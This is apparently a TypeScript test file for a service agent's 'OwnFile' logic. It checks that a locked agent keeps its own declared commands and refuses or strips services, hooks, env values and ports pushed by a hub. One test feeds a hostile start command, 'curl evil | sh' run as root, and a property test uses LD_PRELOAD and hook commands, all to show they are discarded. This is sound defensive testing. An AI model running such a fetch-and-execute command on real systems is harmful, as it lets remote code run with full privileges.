import assert from "node:assert/strict";
import { describe, it } from "node:test";
import fc from "fast-check";
import type { DesiredService } from "../../contract/agent.ts";
import { type ServiceInput, serviceSpecSchema } from "../../contract/service.ts";
import { NOT_DECLARED, OwnFile } from "./own-file.ts";

const specOf = (input: ServiceInput) => serviceSpecSchema.parse(input);
const wishFor = (input: ServiceInput, desired: DesiredService["desired"] = "running"): DesiredService => ({
  spec: specOf(input),
  revision: 7,
  desired,
  stopped_instances: [],
});
const own = new OwnFile([
  specOf({ name: "web", start_cmd: "serve", autostart: true }),
  specOf({ name: "job", start_cmd: "work" }),
]);

describe("the file of a locked agent", () => {
  it("decides how what it declares runs; the hub decides whether", () => {
    const met = own.meet(wishFor({ name: "job", start_cmd: "curl evil | sh", user: "root" }, "stopped"));
    assert.deepEqual([met.spec.start_cmd, met.spec.user, met.desired, met.revision], ["work", null, "stopped", 7]);
    assert.equal(met.refused, undefined);
    assert.equal(met.spec.restart.policy, "on-failure");
  });

  it("refuses the rest, and leaves nothing of it that could run or match", () => {
    const name = fc.stringMatching(/^[a-z]{4,12}$/).filter((text) => !own.declares(text));
    const word = fc.stringMatching(/^[a-zA-Z /.-]{3,30}[a-z]$/);
    fc.assert(
      fc.property(name, word, word, (service, command, keyword) => {
        const met = own.meet(
          wishFor({
            name: service,
            start_cmd: command,
            match_keywords: [`x${keyword}`],
            env: { LD_PRELOAD: command },
            hooks: { pre_start: command, pre_stop: command },
            ports: [80],
          }),
        );
        assert.deepEqual([met.refused, met.desired], [NOT_DECLARED, "stopped"]);
        const { start_cmd, argv, match_keywords, env, env_file, user, hooks, ports } = met.spec;
        assert.deepEqual(
          [start_cmd, argv, match_keywords, env, env_file, user, hooks.pre_start, hooks.pre_stop, ports],
          [":", null, [], {}, null, null, null, null, []],
        );
        // What is kept can be read again.
        assert.ok(serviceSpecSchema.safeParse(met.spec).success);
      }),
    );
  });

  it("starts by itself what it says starts by itself, unless the hub knows it and says otherwise", () => {
    const names = (services: DesiredService[]) => services.map(({ spec, desired }) => `${spec.name} ${desired}`);
    assert.deepEqual(names(own.meetAll([])), ["web running"]);
    assert.deepEqual(names(own.meetAll([wishFor({ name: "web", start_cmd: "x" }, "stopped")])), ["web stopped"]);
    assert.equal(own.aloneOf("web")?.spec.start_cmd, "serve");
    assert.equal(own.aloneOf("job"), undefined);
  });

  it("forgets at the next start what only an older file knew", () => {
    const kept = new OwnFile([specOf({ name: "old", start_cmd: "x", autostart: true })]).meetAll([]);
    assert.deepEqual(
      own.restore(kept).map(({ spec }) => spec.name),
      ["web"],
    );
  });

  it("tells who saves a definition for it what it will do", () => {
    assert.deepEqual(
      own.problems(specOf({ name: "other", start_cmd: "x" })).map(({ severity }) => severity),
      ["error"],
    );
    assert.deepEqual(
      own.problems(specOf({ name: "web", start_cmd: "x" })).map(({ severity }) => severity),
      ["warning"],
    );
  });
});
